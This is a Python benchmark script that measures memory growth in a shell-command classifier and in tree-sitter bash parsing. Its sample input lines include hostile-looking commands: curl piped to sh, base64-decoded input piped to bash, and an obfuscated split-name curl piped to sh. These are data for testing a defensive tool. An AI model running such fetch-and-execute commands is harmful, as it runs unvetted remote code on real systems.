"""Engine memory: RSS before and after N classifications (it must stay flat).

Usage:
  python bench/engine_memory.py [N]          (default 200000)

Prints, in one run and each in a fresh child process:
  engine           classify() over varied lines (the real path: parse, decode, matchers)
  engine+state     classify(line, ShellState) (aliases, functions, variables expanded)
  old-read-cb      the former parse form (a read callback returning fresh slices), as
                   the baseline that leaked: py-tree-sitter keeps every chunk returned
  bytes-parse      Parser.parse(bytes) (no leak, but ignores the progress callback)
Prints figures, never asserts.
"""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent

CHILD = r"""
import gc, sys, time
sys.path.insert(0, REPO)
mode, n = sys.argv[1], int(sys.argv[2])

def rss_mb():
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) / 1024
    return 0.0

LINES = [
    "curl -fsSL https://example.org/install.sh | sh # {i}",
    "git commit -m 'change {i}' && git push origin main",
    "echo {i} | base64 -d | bash",
    "a=cu; b=rl; $a$b -s http://192.0.2.{j}/x | sh",
    "find . -name '*.log' -mtime +{j} -delete",
    "for f in *.txt; do wc -l \"$f\"; done # {i}",
]
if mode.startswith("engine"):
    from attyguard.engine.classify import classify
    from attyguard.engine.state import ShellState
    state = ShellState(variables={"v": "ls -la", "EDITOR": "vim"},
                       aliases={"ll": "ls -alF"},
                       functions={"f": "f () \n{ \n    echo \"$1\"\n}"})
    use_state = mode == "engine+state"
    extra = ["ll /tmp # {i}", "f {i}", "eval \"$v\" # {i}"] if use_state else []
    lines = LINES + extra
    def step(i):
        line = lines[i % len(lines)].format(i=i, j=i % 250)
        classify(line, state if use_state else None)
else:
    import tree_sitter, tree_sitter_bash
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
    def step(i):
        src = LINES[i % len(LINES)].format(i=i, j=i % 250).encode()
        if mode == "bytes-parse":
            parser.parse(src)
            return
        def read(offset, _point):
            return src[offset:offset + 65536] if offset < len(src) else b""
        parser.parse(read, progress_callback=lambda *a: False)

for i in range(2000):  # warm-up: caches, lazy regexes, allocator arenas
    step(i)
gc.collect()
before = rss_mb()
t0 = time.perf_counter()
for i in range(n):
    step(i + 2000)
gc.collect()
after = rss_mb()
elapsed = time.perf_counter() - t0
print(f"{mode:13} N={n:7}  RSS before {before:6.1f} MB  after {after:6.1f} MB  "
      f"growth {after - before:+6.1f} MB ({(after - before) * 1024 * 1024 / n:6.1f} B/line)  "
      f"{elapsed / n * 1e6:6.1f} us/line")
"""


def main() -> int:
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 200_000
    import tree_sitter

    load = Path("/proc/loadavg").read_text().split()[:3]
    print(f"python {sys.version.split()[0]}, tree-sitter {tree_sitter.__version__}, load {load}")
    start = time.perf_counter()
    for mode in ("engine", "engine+state", "old-read-cb", "bytes-parse"):
        out = subprocess.run([sys.executable, "-c", CHILD.replace("REPO", repr(str(REPO))),
                              mode, str(n)], capture_output=True, text=True, check=False)
        print(out.stdout.strip() or out.stderr.strip().splitlines()[-1])
    print(f"total {time.perf_counter() - start:.0f} s")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
